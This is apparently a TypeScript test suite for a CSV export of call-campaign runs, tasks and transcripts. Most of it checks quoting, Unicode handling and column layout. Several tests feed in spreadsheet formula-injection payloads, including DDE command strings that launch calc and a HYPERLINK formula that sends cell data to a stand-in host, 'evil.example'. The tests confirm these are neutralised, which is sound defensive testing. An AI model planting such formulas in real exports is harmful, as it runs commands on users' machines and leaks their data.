import assert from 'node:assert/strict';
import { csvLines } from '../../../src/export/csv';
import { fileFormats } from '../../../src/export/formats';
import { random } from '../../platform/data/random';
import { aRun, aTask, CONTENT, exported, textOf, type Given } from './support';

const csv = (content: keyof typeof CONTENT, ...runs: Given[]) =>
  textOf(fileFormats.csv(exported(...runs), CONTENT[content]));

const runTitles = 'Space,Space Token,Run ID,Status,Mode,Created (UTC),Collection,Tasks';
const taskTitles =
  'Space,Space Token,Run ID,Task ID,Task Status,Call Status,Why It Failed,Contact Name,Contact Number,Email,Outcome,' +
  'Summary,Labels,Start (UTC),End (UTC),Duration (s),End Reason,Attempts,Cost,Direction,Kind,Created (UTC),Recording';
const runTitlesOfTask = 'Run Status,Run Mode,Run Created (UTC),Run Collection,Run Tasks';

describe('CSV', () => {
  it('starts with one line of titles, without a byte order mark', async () => {
    assert.equal(await csv('runs'), `${runTitles}\r\n`);
    assert.equal(await csv('tasks'), `${taskTitles},${runTitlesOfTask}\r\n`);
    assert.equal(await csv('transcripts'), `${taskTitles},Transcript,${runTitlesOfTask}\r\n`);
  });

  it('has a line per run, with times in UTC and nothing for unknown values', async () => {
    const bare = aRun({
      id: 'R2',
      status: '',
      mode: undefined,
      collection: undefined,
      createdAt: undefined,
      taskCount: undefined,
    });
    const [, first, second, last] = (await csv('runs', { run: aRun() }, { run: bare })).split('\r\n');
    assert.equal(
      first,
      'Sales,8KZQ4T7WNC2LPX5RVB9HMD3S,R1,completed,prefect,2026-02-07T12:00:00Z,collection_data_contact,9',
    );
    assert.equal(second, 'Sales,8KZQ4T7WNC2LPX5RVB9HMD3S,R2,,,,,');
    assert.equal(last, '');
  });

  it('has a line per task with the cells of its run around it, and one for a run without tasks', async () => {
    const failed = aTask({
      id: 'T2',
      status: 'failed',
      callStatus: 'busy',
      error: 'Line is busy',
      endReason: 'sip-486',
      contactName: undefined,
      contactEmail: 'a@example.com',
      attempts: 3,
      cost: 0.139,
      outcome: 'Call Back',
      direction: 'inbound',
      duration: 0,
      recording: undefined,
    });
    const text = await csv(
      'tasks',
      { run: aRun(), tasks: [[aTask()], [failed]] },
      { run: aRun({ id: 'R2' }), tasks: [] },
    );
    const run = 'completed,prefect,2026-02-07T12:00:00Z,collection_data_contact,9';
    const times = '2026-02-07T12:00:01Z,2026-02-07T12:01:13Z';
    assert.deepEqual(text.split('\r\n').slice(1), [
      'Sales,8KZQ4T7WNC2LPX5RVB9HMD3S,R1,T1,completed,connected,,Aditi Mehta,+15550000000,,,Wants a call.,"follow-up, warm",' +
        `${times},72.5,,,,,call,2026-02-07T12:00:00Z,https://recordings.example/1.ogg,${run}`,
      'Sales,8KZQ4T7WNC2LPX5RVB9HMD3S,R1,T2,failed,busy,Line is busy,,+15550000000,a@example.com,Call Back,Wants a call.,' +
        `"follow-up, warm",${times},0,sip-486,3,0.139,inbound,call,2026-02-07T12:00:00Z,,${run}`,
      `Sales,8KZQ4T7WNC2LPX5RVB9HMD3S,R2${','.repeat(21)}${run}`,
      '',
    ]);
  });

  it('has a transcript in one cell, one line per turn', async () => {
    const transcript = [
      { time: '0:05', speaker: 'Agent', text: 'Hello,\nwho is this?' },
      { time: null, speaker: 'Aditi', text: '=me' },
    ];
    const text = await csv('transcripts', { run: aRun(), tasks: [[{ task: aTask(), transcript }]] });
    assert.ok(text.includes(',"0:05 Agent: Hello, who is this?\nAditi: =me",'), text);
    assert.match(await csv('transcripts', { run: aRun(), tasks: [[{ task: aTask(), transcript: [] }]] }), /1\.ogg,,/);
  });

  it('quotes commas, quotes and line breaks, and keeps any Unicode', () => {
    assert.equal(
      csvLines([['a,b', 'say "hi"', 'one\ntwo', 'three\r\nfour']]),
      '"a,b","say ""hi""","one\ntwo","three\r\nfour"\r\n',
    );
    const unicode = ['शिवम मेहता', 'שיחות שירות', '👩🏽‍💼🇮🇳', 'naïve'];
    assert.equal(csvLines([unicode]), `${unicode.join(',')}\r\n`);
  });

  const safeCell = (text: string) =>
    csvLines([[text]])
      .replace(/\r\n$/, '')
      .replace(/^"|"$/g, '')
      .replaceAll('""', '"');

  it('lets no text start a formula', () => {
    const evil = [
      '=1+1',
      '+1+cmd',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '＝1',
      '＋1',
      '－1',
      '＠A',
      '−1',
      ' =1',
      '\u00a0\u200b =1',
      '\ufeff=1',
      '"=1',
      "'=1",
      '“=1',
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example?"&A1,"x")',
      '+HYPERLINK("http://evil.example?"&A1,"x")',
      "- asked\ncmd|' /C calc'!A0",
      '- asked (twice)',
      "+15550100042\ncmd|' /C calc'!A0",
    ];
    for (const text of evil) {
      assert.ok(safeCell(text).startsWith("'"), `not guarded: ${JSON.stringify(text)}`);
    }
  });

  it('prevents formulas after a semicolon, tab, or line break, which other programs may take for a separator', () => {
    assert.equal(safeCell("Kim;=cmd|'/C calc'!A0;x"), "Kim;'=cmd|'/C calc'!A0;x");
    assert.equal(safeCell('a\t@SUM(A1)\nb\r\n +c()'), "a\t'@SUM(A1)\nb\r\n' +c()");
    assert.equal(safeCell('a;"=1+1'), `a;'"=1+1`);
    assert.equal(safeCell('a\u2028=b;;=c'), "a\u2028'=b;;'=c");
  });

  it('prevents formulas in any text', () => {
    const source = random('formulas');
    const pieces = [
      '=',
      '+',
      '-',
      '@',
      '＝',
      ';',
      '\t',
      '\n',
      '\r',
      ' ',
      '"',
      "'",
      '\u200b',
      'a',
      '1',
      '(',
      '|',
      '!',
      '[',
      ',',
    ];
    for (let round = 0; round < 5000; round++) {
      const text = Array.from({ length: source.int(1, 12) }, () => source.pick(pieces)).join('');
      const cell = safeCell(text);
      assert.equal(cell.replaceAll("'", ''), text.replaceAll("'", ''), 'nothing but apostrophes is added');
      const parts = cell.split(/[;\t\r\n]/);
      // Without one of these, it is arithmetic.
      const isRisky = (part: string) => /^[\s\u200b"]*[=+\-@＝]/.test(part) && /[|![]|a\s*\(/.test(part);
      assert.deepEqual([cell, ...parts].filter(isRisky), [], `${JSON.stringify(text)} became ${JSON.stringify(cell)}`);
    }
  });

  it('leaves digits as they are, for programs', () => {
    const digits = ['02005550142', '919800000042', '675272289779974401', '000117', '+15550100042', '+91 98000-00042'];
    digits.push('+1 (555) 010-0042', '+(44) 20 7946 0958', '+15550100042 / +15550100043', '-5', '-0,5');
    assert.deepEqual(digits.map(safeCell), digits);
  });

  it('leaves a list with hyphens as it is', () => {
    const list = '- asked for a discount, twice\n- wants a call on Monday: 10 am\n  - soon; "10 %" off';
    assert.equal(safeCell(list), list);
    assert.equal(safeCell(`Notes:\n${list}`), `Notes:\n${list}`);
  });

  it('leaves numbers and harmless texts as they are', () => {
    assert.equal(
      csvLines([[-1, 2.5, 'a=b', '1-2', 'me@example.com', "it's", undefined, new Date(Date.UTC(2026, 1, 7))]]),
      "-1,2.5,a=b,1-2,me@example.com,it's,,2026-02-07T00:00:00Z\r\n",
    );
  });

  it('takes linear time for long texts', () => {
    const length = 300_000;
    const start = performance.now();
    for (const character of [' ', ';', '\n', '-', '+', '1', '"', "'", '\t', '- a', '+1;', ' ;']) {
      csvLines([[character.repeat(length / character.length)]]);
      csvLines([[`- a${character.repeat(length / character.length)}!`]]);
    }
    assert.ok(performance.now() - start < 5_000, `${performance.now() - start} ms`);
  });
});
